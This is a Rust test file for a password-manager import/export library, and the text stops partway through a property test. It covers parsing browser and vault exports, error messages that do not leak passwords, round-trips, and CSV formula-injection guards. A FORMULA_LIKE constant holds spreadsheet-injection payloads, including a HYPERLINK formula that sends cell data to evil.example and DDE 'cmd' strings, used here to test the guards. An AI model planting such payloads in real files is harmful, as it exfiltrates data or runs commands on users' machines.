//! The formats against fixture files written from each tool's documented format.

use super::*;
use common::*;

mod common;

#[test]
fn chrome_csv() {
    let parsed = parse(Format::ChromeCsv, "chrome.csv");
    assert_eq!(
        summary(&parsed),
        [
            alice(2),
            bob(3),
            jurgen(4),
            row(6, "https://accounts.example.net", "", "no-username-pw"),
            row(10, "http://127.0.0.1:8080", "admin", "local-admin"),
        ]
    );
    assert_eq!(parsed.logins[1].name, "Work mail");
    assert_eq!(parsed.logins[2].notes, "multi-line\nnote, with \"quotes\"");
    assert_eq!(parsed.logins[0].url, "https://example.com/login");
    assert_eq!(
        skipped(&parsed),
        [
            (
                7,
                SkipReason::NoWebOrigin("android://Jx9hx8F5bXp0dGluZw==@com.example.app/".into())
            ),
            (8, SkipReason::NoWebOrigin(String::new())),
            (9, SkipReason::NoPassword),
        ]
    );
}

#[test]
fn chrome_csv_without_the_note_column() {
    let parsed = read(
        Format::ChromeCsv,
        "name,url,username,password\r\nx,https://x.example,u,p\r\n".as_bytes(),
    )
    .unwrap();
    assert_eq!(summary(&parsed), [row(2, "https://x.example", "u", "p")]);
    // A byte-order mark before the header is not part of the first column's name.
    let parsed = read(
        Format::ChromeCsv,
        "\u{feff}name,url,username,password,note\nx,https://x.example,u,p,\n".as_bytes(),
    )
    .unwrap();
    assert_eq!(parsed.logins.len(), 1);
}

#[test]
fn firefox_csv() {
    let parsed = parse(Format::FirefoxCsv, "firefox.csv");
    assert_eq!(
        summary(&parsed),
        [
            alice(2),
            jurgen(3),
            row(7, "https://example.com", "", "username-less"),
        ]
    );
    assert_eq!(parsed.logins[0].created, Some(Timestamp(1_700_000_000_000)));
    assert_eq!(parsed.logins[0].updated, Some(Timestamp(1_700_000_200_000)));
    assert_eq!(parsed.logins[2].created, None);
    // bob's intranet login is for the browser's HTTP authentication dialog (it has a realm).
    assert_eq!(
        skipped(&parsed),
        [
            (4, SkipReason::HttpAuth),
            (
                6,
                SkipReason::NoWebOrigin("chrome://FirefoxAccounts".into())
            )
        ]
    );
}

#[test]
fn keepassxc_csv() {
    let parsed = parse(Format::KeepassxcCsv, "keepassxc.csv");
    assert_eq!(summary(&parsed), [alice(2), bob(3), jurgen(5),]);
    assert_eq!(parsed.logins[1].name, "Work mail");
    assert_eq!(
        parsed.logins[1].notes,
        "Line one\nLine two, with \"quotes\""
    );
    assert_eq!(parsed.logins[0].created, Some(Timestamp(1_704_164_645_000)));
    assert_eq!(parsed.logins[0].updated, Some(Timestamp(1_714_558_830_000)));
    assert_eq!(
        skipped(&parsed),
        [
            (6, SkipReason::InRecycleBin),
            (7, SkipReason::NoWebOrigin(String::new())),
            (8, SkipReason::NoPassword),
        ]
    );
}

#[test]
fn bitwarden_csv() {
    let parsed = parse(Format::BitwardenCsv, "bitwarden.csv");
    assert_eq!(
        summary(&parsed),
        [
            row(2, "https://twitter.com", "me@example.com", "pw-twitter"),
            row(3, "https://www.evga.com", "hello@example.com", "pw-evga"),
            row(3, "https://evga.example", "hello@example.com", "pw-evga"),
            row(4, "https://xn--bcher-kva.example", "jürgen", "Grüße-123"),
        ]
    );
    assert_eq!(parsed.logins[3].name, "My Bank");
    assert_eq!(
        parsed.logins[3].notes,
        "Line one\nLine two, with \"quotes\""
    );
    assert_eq!(
        skipped(&parsed),
        [
            (6, SkipReason::NotALogin),
            (
                7,
                SkipReason::NoWebOrigin("androidapp://com.example.app".into())
            ),
            (8, SkipReason::NoPassword),
        ]
    );
    // The folder and the custom fields are kept: nothing is left unstored.
    assert!(parsed.unstored.is_empty(), "{:?}", parsed.unstored);
    // The TOTP secret, the favourite mark and the folder are kept with every login of their
    // row.
    let kept: Vec<_> = (parsed.logins.iter())
        .map(|l| {
            let x = &l.extras;
            (l.line, x.totp.expose(), x.favorite, x.folder.as_str())
        })
        .collect();
    assert_eq!(
        kept,
        [
            (2, "", true, "Social"),
            (3, "TOTPSEED123", false, ""),
            (3, "TOTPSEED123", false, ""),
            (4, "", false, "")
        ]
    );
    assert_eq!(fields(&parsed.logins[3]), [field("PIN", "1234", false)]);
    // An organisation's export names collections instead of a folder: the first is the
    // folder, the others are reported.
    let org = "collections,type,name,notes,fields,reprompt,login_uri,login_username,\
               login_password,login_totp\nTeam,login,A,,,0,https://a.example,u,p,\n\
               \"Team/Ops, Board\",login,B,,,0,https://b.example,u,p,\n";
    let parsed = read(Format::BitwardenCsv, org.as_bytes()).unwrap();
    assert_eq!(
        summary(&parsed),
        [
            row(2, "https://a.example", "u", "p"),
            row(3, "https://b.example", "u", "p")
        ]
    );
    let folders: Vec<_> = parsed.logins.iter().map(|l| &l.extras.folder).collect();
    assert_eq!(folders, ["Team", "Team/Ops"]);
    assert_eq!(parsed.unstored, [(Unstored::Folders, 3)]);
}

#[test]
fn bitwarden_csv_custom_fields_are_read_as_bitwarden_writes_them() {
    let text = "folder,favorite,type,name,notes,fields,reprompt,login_uri,login_username,\
                login_password,login_totp\n,,login,A,,\"PIN: 1234\nURL: https://x.example\n\
                Memo: line one\nline two\",0,https://a.example,u,p,\n\
                ,,login,B,,\"no separator\nPIN: 1\",0,https://b.example,u,p,\n";
    let parsed = read(Format::BitwardenCsv, text.as_bytes()).unwrap();
    assert_eq!(
        fields(&parsed.logins[0]),
        [
            field("PIN", "1234", false),
            field("URL", "https://x.example", false),
            // A line without a name continues the value before it.
            field("Memo", "line one\nline two", false),
        ]
    );
    // A line before any field has no name to go with: reported, not kept.
    assert_eq!(fields(&parsed.logins[1]), [field("PIN", "1", false)]);
    assert_eq!(parsed.unstored, [(Unstored::CustomFields, 6)]);
}

#[test]
fn lastpass_csv() {
    let parsed = parse(Format::LastpassCsv, "lastpass.csv");
    assert_eq!(summary(&parsed), [alice(2), bob(3), jurgen(7),]);
    assert_eq!(parsed.logins[1].name, "Work mail");
    assert_eq!(parsed.logins[1].notes, "Line one\nLine two");
    assert_eq!(
        skipped(&parsed),
        [
            (5, SkipReason::NotALogin),
            (8, SkipReason::NoWebOrigin("http://".into())),
        ]
    );
    assert!(parsed.unstored.is_empty(), "{:?}", parsed.unstored);
    // LastPass's `\` between nested groups is credwell's `/`.
    let bob = &parsed.logins[1].extras;
    assert_eq!(
        (bob.totp.expose(), bob.favorite, bob.folder.as_str()),
        ("JBSWY3DPEHPK3PXP", true, "Work/Mail")
    );
    assert_eq!(parsed.logins[0].extras, LoginExtras::default());
}

#[test]
fn apple_and_1password_csv() {
    let parsed = parse(Format::AppleCsv, "apple.csv");
    assert_eq!(summary(&parsed), [alice(2), bob(3), jurgen(5),]);
    assert_eq!(parsed.logins[0].name, "example.com (alice)");
    assert_eq!(parsed.logins[1].notes, "Line one\nLine two");
    assert_eq!(
        skipped(&parsed),
        [(6, SkipReason::NoWebOrigin(String::new()))]
    );
    assert!(parsed.unstored.is_empty(), "{:?}", parsed.unstored);
    assert!(parsed.logins.iter().any(|l| !l.extras.totp.is_empty()));

    let parsed = parse(Format::OnepasswordCsv, "1password.csv");
    assert_eq!(
        summary(&parsed),
        [
            alice(2),
            bob(3),
            // Archived, not deleted: imported.
            row(5, "https://old.example", "old", "pw-old"),
        ]
    );
    assert_eq!(parsed.logins[1].name, "Work mail");
    assert_eq!(
        skipped(&parsed),
        [(6, SkipReason::NoWebOrigin(String::new()))]
    );
    assert!(parsed.unstored.is_empty(), "{:?}", parsed.unstored);
    // The tags are kept as the field `Tags`, as 1Password's 1PUX export's are.
    let bob = &parsed.logins[1];
    assert_eq!(fields(bob), [field("Tags", "work", false)]);
    assert!(bob.extras.favorite);
    assert_eq!(
        bob.extras.totp.expose(),
        "otpauth://totp/Work?secret=JBSWY3DPEHPK3PXP"
    );
    assert!(!parsed.logins[0].extras.favorite);
}

#[test]
fn proton_csv() {
    let parsed = parse(Format::ProtonCsv, "proton.csv");
    assert_eq!(
        summary(&parsed),
        [
            alice(2),
            row(
                2,
                "https://www.example.com",
                "alice",
                "correct horse battery staple"
            ),
            // An older item's e-mail address is its username.
            row(
                3,
                "https://mail.example.org:8443",
                "bob@example.org",
                "pa-ss-word"
            ),
        ]
    );
    assert_eq!(parsed.logins[0].created, Some(Timestamp(1_700_000_000_000)));
    assert_eq!(parsed.logins[0].updated, Some(Timestamp(1_700_000_200_000)));
    // A negative createTime is dropped, with a note.
    assert_eq!(parsed.logins[2].created, None);
    assert_eq!(parsed.logins[2].updated, Some(Timestamp(1_700_000_000_000)));
    assert_eq!(parsed.clamped_times, [3]);
    assert_eq!(parsed.logins[2].notes, "Line one\nLine two");
    assert_eq!(
        skipped(&parsed),
        [
            (5, SkipReason::NotALogin),
            (6, SkipReason::NotALogin),
            (7, SkipReason::NoPassword),
        ]
    );
    // The vault is the folder, as in Proton Pass's JSON export.
    assert!(parsed.unstored.is_empty(), "{:?}", parsed.unstored);
    let kept: Vec<_> = (parsed.logins.iter())
        .map(|l| (l.extras.folder.as_str(), l.extras.totp.expose()))
        .collect();
    assert_eq!(
        kept,
        [
            ("Personal", ""),
            ("Personal", ""),
            ("Work", "otpauth://totp/Mail?secret=GEZDGNBV")
        ]
    );
}

#[test]
fn bitwarden_json() {
    let parsed = parse(Format::BitwardenJson, "bitwarden.json");
    assert_eq!(
        summary(&parsed),
        [
            alice(10),
            bob(32),
            row(
                32,
                "https://webmail.example.org",
                "bob, the builder",
                "pa,ss\"word"
            ),
            jurgen(51),
            row(102, "http://192.168.1.1", "", "router-pw"),
        ]
    );
    assert_eq!(
        parsed.logins[1].notes,
        "Line one\nLine two, with \"quotes\""
    );
    assert_eq!(parsed.logins[1].name, "Work mail");
    assert_eq!(parsed.logins[0].created, Some(Timestamp(1_704_164_645_000)));
    assert_eq!(
        skipped(&parsed),
        [
            (
                62,
                SkipReason::NoWebOrigin("androidapp://com.example.app".into())
            ),
            (72, SkipReason::NoPassword),
            (83, SkipReason::NoWebOrigin(String::new())),
            (89, SkipReason::NotALogin),
            (96, SkipReason::NotALogin),
        ]
    );
}

/// The format a fixture's name starts with (after `fail_`): `chrome`, `firefox`, `bitwarden`,
/// `keepassxc` or `cxf`.
fn format_of(name: &str) -> Format {
    let name = name.trim_start_matches("fail_");
    // The whole name first (`bitwarden_csv_...`), then its first word (`bitwarden_...`).
    let whole = |f: &Format| name.starts_with(&f.as_str().replace('-', "_"));
    let first = |f: &Format| name.starts_with(f.as_str().split('-').next().unwrap());
    (Format::ALL.into_iter().find(whole))
        .or_else(|| Format::ALL.into_iter().find(first))
        .unwrap_or_else(|| panic!("{name} names no format"))
}

#[test]
fn every_fail_fixture_is_rejected_with_a_line_and_no_secret() {
    let mut checked = 0;
    for entry in std::fs::read_dir(fixtures()).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        if !name.starts_with("fail_") {
            continue;
        }
        let format = format_of(&name);
        let error = read(format, fixture(&name).as_slice()).unwrap_err();
        let line = error
            .line
            .unwrap_or_else(|| panic!("{name}: {error} has no line"));
        assert!(line >= 1, "{name}: {error}");
        for secret in ["pw1", "pw2", "pw3", "1234", "multi\nline"] {
            assert!(!error.reason.contains(secret), "{name}: {error}");
        }
        checked += 1;
    }
    assert!(checked >= 10, "only {checked} fail_ fixtures");
}

/// The text every password of `tests/fixtures/canary/` holds.
const CANARY: &str = "CANARYpw";

/// No error or warning of any reader quotes a value of a password column.
/// Each file of `tests/fixtures/canary/` takes one path to an error (its name says which) or to
/// warnings (`skipped`, `bad_urls`, `duplicates`, `formula_guard`), with passwords that hold
/// [`CANARY`].
#[test]
fn no_error_or_warning_quotes_a_password() {
    let (mut errors, mut warnings) = (0, 0);
    for entry in std::fs::read_dir(fixtures().join("canary")).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_str().unwrap().to_owned();
        let bytes = std::fs::read(&path).unwrap();
        assert!(
            bytes.windows(CANARY.len()).any(|w| w == CANARY.as_bytes()),
            "{name} holds no canary"
        );
        let succeeds = ["skipped", "bad_urls", "duplicates", "formula_guard"]
            .iter()
            .any(|k| name.contains(k));
        match read(format_of(&name), bytes.as_slice()) {
            Err(error) => {
                assert!(!succeeds, "{name}: {error}");
                assert!(!error.to_string().contains(CANARY), "{name}: {error}");
                errors += 1;
            }
            Ok(parsed) => {
                assert!(succeeds, "{name} was read without an error");
                for skipped in &parsed.skipped {
                    let reason = skipped.reason.to_string();
                    assert!(!reason.contains(CANARY), "{name}: {reason}");
                }
                warnings += 1;
            }
        }
    }
    assert!(errors >= 25 && warnings >= 8, "{errors} errors, {warnings}");
}

#[test]
fn malformed_rows_name_their_line_and_reason() {
    let cases = [
        (
            Format::ChromeCsv,
            "fail_chrome_short_row.csv",
            3,
            "expected 5 fields",
        ),
        (
            Format::ChromeCsv,
            "fail_chrome_wrong_header.csv",
            1,
            "no \"url\" column",
        ),
        (
            Format::ChromeCsv,
            "fail_chrome_bad_utf8.csv",
            3,
            "not valid UTF-8",
        ),
        (
            Format::FirefoxCsv,
            "fail_firefox_bad_time.csv",
            5,
            "timeCreated",
        ),
        (Format::FirefoxCsv, "fail_firefox_empty.csv", 1, "empty"),
        (
            Format::KeepassxcCsv,
            "fail_keepassxc_extra_field.csv",
            3,
            "found 11",
        ),
        (
            Format::BitwardenJson,
            "fail_bitwarden_syntax.json",
            6,
            "not valid JSON",
        ),
        (
            Format::BitwardenJson,
            "fail_bitwarden_encrypted.json",
            1,
            "encrypted",
        ),
        (
            Format::BitwardenJson,
            "fail_bitwarden_login_missing.json",
            10,
            "item 2",
        ),
        (
            Format::BitwardenJson,
            "fail_bitwarden_wrong_type.json",
            12,
            "wrong type",
        ),
        (
            Format::BitwardenJson,
            "fail_bitwarden_passkey_key.json",
            10,
            "item 2, passkey 2: the passkey's key is not a PKCS#8 private key",
        ),
        (
            Format::BitwardenJson,
            "fail_bitwarden_passkey_id.json",
            10,
            "item 2, passkey 2: the passkey's credentialId is neither a UUID",
        ),
        (
            Format::BitwardenCsv,
            "fail_bitwarden_csv_malformed_url.csv",
            3,
            "the \"login_uri\" column is not a usable URL",
        ),
        (
            Format::LastpassCsv,
            "fail_lastpass_short_row.csv",
            3,
            "expected 8 fields",
        ),
        (
            Format::AppleCsv,
            "fail_apple_no_password.csv",
            1,
            "the header has no \"Password\" column",
        ),
        (
            Format::ProtonCsv,
            "fail_proton_bad_time.csv",
            3,
            "the \"createTime\" column is not a time in seconds",
        ),
        (
            Format::OnepasswordCsv,
            "fail_1password_extra_field.csv",
            3,
            "found 10",
        ),
        (
            Format::Cxf,
            "fail_cxf_passkey_field.json",
            26,
            "item aXRlbS0y: credential 1 (\"passkey\") has a missing field `rpId`",
        ),
    ];
    for (format, name, line, reason) in cases {
        let error = read(format, fixture(name).as_slice()).unwrap_err();
        assert_eq!(error.line, Some(line), "{name}: {error}");
        assert!(error.reason.contains(reason), "{name}: {error}");
    }
}

/// What survives a trip through `format`: origin, username and password always; the title,
/// notes and times where the format has them.
fn comparable(format: Format, login: &ImportedLogin) -> String {
    let mut s = format!(
        "{} {:?} {:?}",
        login.origin,
        login.username,
        login.password.expose()
    );
    if format != Format::FirefoxCsv {
        s += &format!(" name={:?} notes={:?}", title_or_host(login), login.notes);
    }
    let has_times = matches!(
        format,
        Format::FirefoxCsv
            | Format::KeepassxcCsv
            | Format::BitwardenJson
            | Format::Cxf
            | Format::ProtonCsv
    );
    if has_times {
        // The time of the last change: what an import compares with the vault's.
        let updated = login.updated.or(login.created);
        s += &format!(" created={:?} updated={updated:?}", login.created);
    }
    let x = &login.extras;
    if format.writes(Unstored::Totp) {
        s += &format!(" totp={:?}", x.totp.expose());
    }
    if format.writes(Unstored::Folders) {
        // LastPass nests groups with `\\`, credwell with `/`: a name cannot hold a `\\`.
        let folder = match format {
            Format::LastpassCsv => x.folder.replace('\\', "/"),
            _ => x.folder.clone(),
        };
        s += &format!(" folder={folder:?}");
    }
    if format.writes(Unstored::CustomFields) {
        for f in &x.fields {
            // Bitwarden's CSV has no place for a field's hidden mark.
            let hidden = f.hidden && format != Format::BitwardenCsv;
            s += &format!(" field={:?}={:?}/{hidden}", f.name, f.value.expose());
        }
    }
    if format.writes(Unstored::Favourites) {
        s += &format!(" favorite={}", x.favorite);
    }
    s
}

/// `logins` written in `format` and read back.
fn read_again(format: Format, logins: &[ImportedLogin]) -> Parsed {
    let mut written = Vec::new();
    write(format, logins, &[], &mut written).unwrap();
    read(format, written.as_slice()).unwrap()
}

/// The fixture `name` read, and read again after being written in its own `format`.
fn written_and_read_again(format: Format, name: &str) -> (Parsed, Parsed) {
    let first = parse(format, name);
    let second = read_again(format, &first.logins);
    (first, second)
}

#[test]
fn every_format_round_trips_its_own_fixture() {
    for (format, name) in [
        (Format::ChromeCsv, "chrome.csv"),
        (Format::FirefoxCsv, "firefox.csv"),
        (Format::KeepassxcCsv, "keepassxc.csv"),
        (Format::BitwardenJson, "bitwarden.json"),
        (Format::Cxf, "cxf.json"),
        (Format::BitwardenCsv, "bitwarden.csv"),
        (Format::LastpassCsv, "lastpass.csv"),
        (Format::AppleCsv, "apple.csv"),
        (Format::OnepasswordCsv, "1password.csv"),
        (Format::ProtonCsv, "proton.csv"),
    ] {
        let (first, second) = written_and_read_again(format, name);
        assert!(second.skipped.is_empty(), "{name}: {:?}", second.skipped);
        let a: Vec<_> = first.logins.iter().map(|l| comparable(format, l)).collect();
        let b: Vec<_> = second
            .logins
            .iter()
            .map(|l| comparable(format, l))
            .collect();
        assert_eq!(a, b, "{name}");
    }
}

/// Import → export → import of a CSV product's own fixture keeps what its rows carry beside
/// the credential: TOTP secrets, favourite marks, folders and custom fields.
#[test]
fn csv_exports_keep_the_extras_of_their_own_fixture() {
    for (format, name) in [
        (Format::BitwardenCsv, "bitwarden.csv"),
        (Format::LastpassCsv, "lastpass.csv"),
        (Format::AppleCsv, "apple.csv"),
        (Format::OnepasswordCsv, "1password.csv"),
        (Format::ProtonCsv, "proton.csv"),
    ] {
        let first = parse(format, name);
        assert!(
            first.logins.iter().any(|l| !l.extras.totp.is_empty()),
            "{name} has no TOTP secret to keep"
        );
        let second = read_again(format, &first.logins);
        let extras = |p: &Parsed| {
            p.logins
                .iter()
                .map(|l| l.extras.clone())
                .collect::<Vec<_>>()
        };
        assert_eq!(extras(&first), extras(&second), "{name}");
    }
}

/// [`Format::writes`] says what an export keeps: a format that has a place for a kind writes it
/// back, one that has none does not.
#[test]
fn formats_write_what_they_say_they_have_a_place_for() {
    let mut login = ImportedLogin::new(
        Origin::parse("https://example.com").unwrap(),
        "u",
        Password::new("p"),
    );
    login.notes = "a note".into();
    login.extras = LoginExtras {
        totp: SecretText::new("JBSWY3DPEHPK3PXP"),
        fields: vec![CustomField {
            name: "PIN".into(),
            value: SecretText::new("1234"),
            hidden: false,
        }],
        folder: "Work/Mail".into(),
        favorite: true,
    };
    for format in Format::ALL.into_iter().filter(|f| f.can_write()) {
        let back = read_again(format, std::slice::from_ref(&login));
        for kind in Unstored::ALL {
            assert_eq!(
                back.logins[0].has(kind),
                format.writes(kind),
                "{format}: {kind:?}"
            );
        }
    }
}

#[test]
fn every_format_carries_the_logins_of_every_other() {
    let source = parse(Format::ChromeCsv, "chrome.csv").logins;
    let key = |l: &ImportedLogin| {
        (
            l.origin.to_string(),
            l.username.clone(),
            l.password.expose().to_owned(),
        )
    };
    let want: Vec<_> = source.iter().map(key).collect();
    for format in Format::ALL.into_iter().filter(|f| f.can_write()) {
        let back = read_again(format, &source);
        let got: Vec<_> = back.logins.iter().map(key).collect();
        assert_eq!(got, want, "{format}");
    }
}

/// Exports write an internationalised host as people read it (as Firefox writes it), and every
/// reader takes it back to the same origin.
#[test]
fn internationalised_hosts_are_written_in_unicode() {
    let origin = Origin::parse("https://xn--bcher-kva.example:8443").unwrap();
    let login = ImportedLogin::new(origin.clone(), "u", Password::new("p"));
    assert_eq!(login.url, "https://bücher.example:8443");
    for format in Format::ALL.into_iter().filter(|f| f.can_write()) {
        let mut written = Vec::new();
        write(format, std::slice::from_ref(&login), &[], &mut written).unwrap();
        let text = String::from_utf8(written.clone()).unwrap();
        assert!(text.contains("bücher.example"), "{format}: {text}");
        assert!(!text.contains("xn--"), "{format}: {text}");
        let back = read(format, written.as_slice()).unwrap();
        assert_eq!(back.logins[0].origin, origin, "{format}");
    }
    assert_eq!(display_origin(&origin), "https://bücher.example:8443");
}

#[test]
fn writers_quote_what_needs_quoting() {
    let mut login = ImportedLogin::new(
        Origin::parse("https://example.com").unwrap(),
        "a,b",
        Password::new("p\"w\nx"),
    );
    login.notes = "n".into();
    let mut out = Vec::new();
    write(Format::ChromeCsv, &[login.clone()], &[], &mut out).unwrap();
    assert_eq!(
        String::from_utf8(out).unwrap(),
        "\"name\",\"url\",\"username\",\"password\",\"note\"\n\
         \"example.com\",\"https://example.com\",\"a,b\",\"p\"\"w\nx\",\"n\"\n"
    );
    let mut out = Vec::new();
    write(Format::KeepassxcCsv, &[login], &[], &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let expected = "\"Group\",\"Title\",\"Username\",\"Password\",\"URL\",\"Notes\",\"TOTP\",\
                    \"Icon\",\"Last Modified\",\"Created\"\n\"Root\",\"example.com\",\"a,b\"";
    assert!(text.starts_with(expected), "{text}");
}

/// Values that a spreadsheet runs as formulas (OWASP's first characters), and ones that only
/// look close.
const FORMULA_LIKE: [&str; 9] = [
    "=HYPERLINK(\"https://evil.example/?\"&D2&D3,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "'=1+1",
    "''-x",
];
const NOT_FORMULAS: [&str; 7] = ["'", "''", "'abc", "a=b", "x;=1+1", " =1", "plain"];

/// Logins with every [`FORMULA_LIKE`] and [`NOT_FORMULAS`] value as name, username, password
/// and notes.
fn formula_logins() -> Vec<ImportedLogin> {
    FORMULA_LIKE
        .iter()
        .chain(&NOT_FORMULAS)
        .map(|value| {
            let mut login = ImportedLogin::new(
                Origin::parse("https://example.com").unwrap(),
                value,
                Password::new(*value),
            );
            login.name = (*value).to_owned();
            login.notes = (*value).to_owned();
            login
        })
        .collect()
}

/// A name (or any value) from a web page must not become a live formula when
/// a CSV export is opened in a spreadsheet.
#[test]
fn csv_exports_open_in_spreadsheets_as_text() {
    let logins = formula_logins();
    for format in Format::ALL.into_iter().filter(|f| f.is_csv()) {
        let mut written = Vec::new();
        write(format, &logins, &[], &mut written).unwrap();
        // What a spreadsheet sees: the cells, quotes and all but unescaped.
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(written.as_slice());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{format}: {cell:?} would run as a formula"
                );
                cells += 1;
            }
        }
        assert!(cells > logins.len() * 3, "{format}: {cells} cells");
        // Every field quoted, so that a spreadsheet splitting on `;` keeps `x;=1+1` one cell.
        let text = String::from_utf8(written).unwrap();
        assert!(text.contains("\"x;=1+1\""), "{format}: {text}");
    }
}

#[test]
fn formula_guards_round_trip_every_value_exactly() {
    let logins = formula_logins();
    for format in Format::ALL.into_iter().filter(|f| f.can_write()) {
        let back = read_again(format, &logins);
        let a: Vec<_> = logins.iter().map(|l| comparable(format, l)).collect();
        let b: Vec<_> = back.logins.iter().map(|l| comparable(format, l)).collect();
        assert_eq!(a, b, "{format}");
        // Each row that had a guard is reported.
        let want = if format.is_csv() {
            FORMULA_LIKE.len()
        } else {
            0
        };
        assert_eq!(back.formula_guards.len(), want, "{format}");
        assert!(back.skipped.is_empty(), "{format}: {:?}", back.skipped);
    }
    assert_eq!(
        altered_sign_ins(Format::ChromeCsv, &logins),
        FORMULA_LIKE.len()
    );
    assert_eq!(altered_sign_ins(Format::Cxf, &logins), 0);
}

#[test]
fn only_a_quote_before_a_formula_is_taken_as_a_guard() {
    let parsed = read(
        Format::ChromeCsv,
        "name,url,username,password\n'Bob's,https://x.example,'abc,'-pw\n\
         x,https://y.example,u,'pw\n"
            .as_bytes(),
    )
    .unwrap();
    assert_eq!(
        summary(&parsed),
        [
            row(2, "https://x.example", "'abc", "-pw"),
            row(3, "https://y.example", "u", "'pw"),
        ]
    );
    assert_eq!(parsed.logins[0].name, "'Bob's");
    assert_eq!(parsed.formula_guards, [2]);
}

#[test]
fn bitwarden_export_has_the_documented_shape() {
    let mut login = ImportedLogin::new(
        Origin::parse("https://example.com").unwrap(),
        "alice",
        Password::new("pw"),
    );
    login.created = Some(Timestamp(0));
    let mut out = Vec::new();
    write(Format::BitwardenJson, &[login], &[], &mut out).unwrap();
    let value: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(value["encrypted"], false);
    assert_eq!(value["folders"], serde_json::json!([]));
    let item = &value["items"][0];
    assert_eq!(item["type"], 1);
    assert_eq!(item["name"], "example.com");
    assert_eq!(item["creationDate"], "1970-01-01T00:00:00.000Z");
    assert_eq!(item["login"]["uris"][0]["uri"], "https://example.com");
    assert_eq!(item["login"]["username"], "alice");
    assert_eq!(item["login"]["password"], "pw");
    assert_eq!(item["login"]["fido2Credentials"], serde_json::json!([]));
}

#[test]
fn web_origins() {
    for (url, want) in [
        ("https://example.com/a?b#c", Some("https://example.com")),
        ("HTTP://Example.COM:80/", Some("http://example.com")),
        (
            "https://bücher.example",
            Some("https://xn--bcher-kva.example"),
        ),
        ("  https://padded.example  ", Some("https://padded.example")),
        ("android://hash@com.example/", None),
        ("chrome://settings", None),
        ("ftp://files.example", None),
        ("example.com", None),
        ("", None),
        ("https://", None),
    ] {
        assert_eq!(
            web_origin(url).map(|o| o.to_string()).as_deref(),
            want,
            "{url}"
        );
    }
}

mod properties {
    use proptest::prelude::*;

    use super::*;

    /// Text with the characters that break naive CSV and JSON writers.
    fn tricky() -> impl Strategy<Value = String> {
        proptest::string::string_regex("[a-zA-Zü€😀 ,;\"'\\\\\n\r\t=+-]{0,12}").unwrap()
    }

    fn origin() -> impl Strategy<Value = Origin> {
        prop_oneof![
            Just("https://example.com"),
            Just("http://127.0.0.1:8080"),
            Just("https://xn--bcher-kva.example"),
            Just("https://a.b.example.co.uk:8443"),
        ]
        .prop_map(|o| Origin::parse(o).unwrap())
    }

    /// A time in whole seconds (what every format that has times keeps), 1970 to 2100.
    fn time() -> impl Strategy<Value = Option<Timestamp>> {
        proptest::option::of((0_u64..4_102_444_800).prop_map(|s| Timestamp(s * 1000)))
    }

    pub(super) fn login() -> impl Strategy<Value = ImportedLogin> {
        let texts = (tricky(), tricky(), tricky(), tricky());
        (origin(), texts, time(), time(), extras()).prop_map(
            |(origin, (username, password, name, notes), created, updated, extras)| {
                let mut l =
                    ImportedLogin::new(origin, &username, Password::new(format!("p{password}")));
                l.name = name;
                l.notes = notes;
                l.created = created;
                l.updated = updated;
                l.extras = extras;
                l
            },
        )
    }

    fn extras() -> impl Strategy<Value = LoginExtras> {
        let totp = proptest::string::string_regex("[A-Z2-7]{0,16}").unwrap();
        // A field's name is one line (as every product's editor has it): Bitwarden's CSV
        // writes a field as a `name: value` line.
        let name = proptest::string::string_regex("[a-zA-Zü€😀 ,;\"'\\\\\r\t=+-]{0,12}").unwrap();
        let field = (name, tricky(), any::<bool>());
        let fields = proptest::collection::vec(field, 0..3);
        (totp, fields, tricky(), any::<bool>()).prop_map(|(totp, fields, folder, favorite)| {
            LoginExtras {
                totp: SecretText::new(totp),
                fields: fields
                    .into_iter()
                    .map(|(name, value, hidden)| CustomField {
                        name,
                        value: SecretText::new(value),
                        hidden,
                    })
                    .collect(),
                folder,
                favorite,
            }
        })
    }

    fn passkey() -> impl Strategy<Value = PasskeyRecord> {
        let ids = (
            proptest::collection::vec(any::<u8>(), 1..64),
            proptest::collection::vec(any::<u8>(), 1..=64),
        );
        let key = (
            any::<bool>(),
            1_u8..0x7f,
            proptest::collection::vec(any::<u8>(), 31),
        );
        let prf =
            proptest::option::of((any::<[u8; 32]>(), proptest::option::of(any::<[u8; 32]>())));
        let rp = prop_oneof![
            Just("example.com"),
            Just("login.example.org"),
            Just("xn--bcher-kva.example"),
        ];
        (
            rp,
            ids,
            (tricky(), tricky()),
            key,
            0_u64..4_102_444_800,
            prf,
        )
            .prop_map(
                |(rp, (credential_id, user_handle), (name, display), (ed, first, rest), s, prf)| {
                    let mut bytes = vec![first];
                    bytes.extend(rest);
                    PasskeyRecord {
                        rp_id: rp.into(),
                        credential_id,
                        user_handle,
                        user_name: name,
                        user_display_name: display,
                        algorithm: if ed {
                            credwell_passkey::Algorithm::EdDsa
                        } else {
                            credwell_passkey::Algorithm::Es256
                        },
                        private_key: credwell_passkey::PrivateKey::from_bytes(bytes),
                        created_at: s * 1000,
                        prf: prf.map(|(with, without)| {
                            credwell_passkey::PrfSecrets::new(
                                with.to_vec(),
                                without.map(|w| w.to_vec()),
                            )
                        }),
                        large_blob: None,
                        hidden: false,
                    }
                },
            )
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        /// Import → export → import is the identity on what each format holds: the logins'
        /// fields it has a place for, and the passkeys of the formats that carry them.
        #[test]
        fn every_format_round_trips_arbitrary_text(
            logins in proptest::collection::vec(login(), 0..6),
            passkeys in proptest::collection::vec(passkey(), 0..3),
        ) {
            for format in Format::ALL.into_iter().filter(|f| f.can_write()) {
                let passkeys = if format.carries_passkeys() { passkeys.as_slice() } else { &[] };
                let mut written = Vec::new();
                write(format, &logins, passkeys, &mut written).unwrap();
                let back = read(format, written.as_slice()).unwrap();
                prop_assert!(back.skipped.is_empty());
                let a: Vec<_> = logins.iter().map(|l| comparable(format, l)).collect();
                let b: Vec<_> = back.logins.iter().map(|l| comparable(format, l)).collect();
                prop_assert_eq!(a, b, "{}", format);
                let keys = |p: &PasskeyRecord| passkey_comparable(format, p);
